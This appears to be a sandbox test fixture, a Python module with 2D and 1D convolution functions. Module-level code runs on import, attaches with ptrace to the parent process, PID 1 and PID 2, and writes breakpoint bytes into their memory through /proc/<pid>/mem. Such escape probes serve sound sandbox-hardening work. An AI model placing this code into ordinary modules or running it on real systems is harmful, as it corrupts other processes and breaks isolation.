# expect: score=16
# Attaches to its worker with ptrace and writes into its memory through /proc/<pid>/mem.
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, 2}:
    if pid == os.getpid():
        continue
    attached = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    seized = libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE
    try:
        with open(f"/proc/{pid}/mem", "r+b") as mem:
            mem.seek(0x400000)
            mem.write(b"\xcc" * 64)
        wrote = True
    except OSError:
        wrote = False
    print(f"ptrace {pid}: attach={attached} seize={seized} mem-write={wrote}")


def convolve(image, kernel):
    kh, kw = kernel.shape
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i : i + kh, j : j + kw] * kernel)
    return out


def convolve1d(signal, kernel):
    k = len(kernel)
    out = np.zeros(len(signal) - k + 1)
    for i in range(len(out)):
        out[i] = np.sum(signal[i : i + k] * kernel)
    return out
